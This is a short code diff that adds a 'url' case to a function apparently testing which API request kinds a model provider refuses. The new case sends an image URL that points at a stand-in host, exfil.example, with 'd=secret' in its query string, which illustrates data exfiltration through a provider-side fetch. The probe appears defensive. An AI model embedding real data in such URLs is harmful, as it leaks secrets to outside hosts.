@@ -78,6 +78,11 @@ def refused(kind: str) -> dict:
         kwargs["model"] = "claude-opus-4-1"
     elif kind == "hosted":
         kwargs["tools"] = [{"type": "web_search_20250305", "name": "web_search"}]
+    elif kind == "url":  # the provider would fetch this from its own network
+        kwargs["messages"] = [{"role": "user", "content": [
+            {"type": "text", "text": "describe"},
+            {"type": "image", "source": {"type": "url",
+                                         "url": "https://exfil.example/x.png?d=secret"}}]}]
     try:
         client.messages.create(**kwargs)
         return {"outcome": "accepted"}
